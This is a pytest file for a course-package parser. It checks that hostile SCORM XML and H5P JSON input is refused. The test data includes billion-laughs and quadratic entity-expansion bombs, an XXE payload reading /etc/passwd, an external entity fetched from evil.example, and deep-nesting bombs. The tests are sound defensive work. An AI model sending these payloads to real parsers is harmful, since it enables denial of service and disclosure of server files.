"""JSON and XML that somebody sent: what is read, and what is refused before it costs anything."""

import pytest

from courses.packages.parsing import read_json, read_xml
from courses.packages.refusals import ForbiddenXML, NotJSON, NotXML, PackageRefused, TooDeep, TooManyParts

LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha">' + "".join(
    f'<!ENTITY b{n} "{f"&b{n - 1 or str()};" * 10}">' for n in range(1, 10)
)
BAD_XML: dict[str, tuple[bytes, type[PackageRefused]]] = {
    "nothing": (b"", NotXML),
    "a text": (b"Hello", NotXML),
    "unclosed": (b"<a><b></a>", NotXML),
    "NUL": (b"<a>\0</a>", NotXML),
    "NUL by its number": (b"<a>&#0;</a>", NotXML),
    "NUL in an attribute": (b"<a b='&#x0;'/>", NotXML),
    "NUL in UTF-16": ("<a>\0</a>".encode("utf-16"), NotXML),
    "an encoding that nobody knows": (b"<?xml version='1.0' encoding='x-none'?><a/>", NotXML),
    "an encoding of many bytes": (b"<?xml version='1.0' encoding='utf-7'?><a/>", NotXML),
    "a billion laughs": (f"{LAUGHS}]><a>&b9;</a>".encode(), ForbiddenXML),
    "a billion laughs in UTF-16": (f"{LAUGHS}]><a>&b9;</a>".encode("utf-16"), ForbiddenXML),
    "quadratic blow-up": (
        b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 50_000 + b'">]><a>' + b"&b;" * 9_000 + b"</a>", ForbiddenXML,
    ),
    "a file of ours": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', ForbiddenXML),
    "a file of another's": (b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/b"> %b;]><a/>', ForbiddenXML),
    "deep": (b"<a>" * 3_000 + b"</a>" * 3_000, TooDeep),
    "deeper than fits": (b"<a>" * 1_000_000, TooManyParts),
    "wide": (b"<a>" + b"<b/>" * 900_000 + b"</a>", TooManyParts),
}  # fmt: skip
BAD_JSON: dict[str, tuple[bytes, type[PackageRefused]]] = {
    "nothing": (b"", NotJSON),
    "an endless number": (b'{"a": ' + b"9" * 100_000 + b"}", NotJSON),
    "a number without end": (b'{"a": -Infinity}', NotJSON),
    "half a sign": (b'{"a": "\\udfff"}', NotJSON),
    "NUL in a text": (b'{"a": ["b\\u0000"]}', NotJSON),
    "NUL in a name": (b'{"a": {"\\u0000": 1}}', NotJSON),
    "NUL behind a backslash": (b'"\\\\\\u0000"', NotJSON),
    "deep": (b"[" * 150 + b"]" * 150, TooDeep),
    "deeper than can be read": (b"[" * 190_000 + b"]" * 190_000, TooDeep),
    "deeper than fits": (b"[" * 2_000_000, TooManyParts),
    "wide": (b"[" + b"[]," * 1_300_000 + b"[]]", TooManyParts),
}


@pytest.mark.parametrize("kind", BAD_XML)
def test_xml_that_is_none_or_harms_is_refused(kind: str):
    data, refusal = BAD_XML[kind]
    with pytest.raises(refusal) as refused:
        read_xml(data, entry="imsmanifest.xml")
    assert type(refused.value) is refusal
    assert str(refused.value).startswith("imsmanifest.xml")


@pytest.mark.parametrize("kind", BAD_JSON)
def test_json_that_is_none_or_harms_is_refused(kind: str):
    data, refusal = BAD_JSON[kind]
    with pytest.raises(refusal) as refused:
        read_json(data, entry="h5p.json")
    assert type(refused.value) is refusal
    assert str(refused.value).startswith("h5p.json")


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-be", "utf-16-le"])
def test_xml_is_read_in_unicodes_encodings(encoding: str):
    declared = "-".join(encoding.split("-")[:2]).upper()
    mark = "\ufeff" if encoding.endswith(("be", "le")) else ""
    text = f"{mark}<?xml version='1.0' encoding='{declared}'?><a>안녕</a>"
    assert read_xml(text.encode(encoding), entry="a").text == "안녕"


def test_a_document_type_that_declares_nothing_is_let():
    text = b'<!DOCTYPE manifest SYSTEM "imscp_v1p1.dtd"><manifest/>'
    assert read_xml(text, entry="a").tag == "manifest"


def test_a_text_about_nul_is_let():
    assert read_json(b'"\\\\u0000"', entry="a") == "\\u0000"
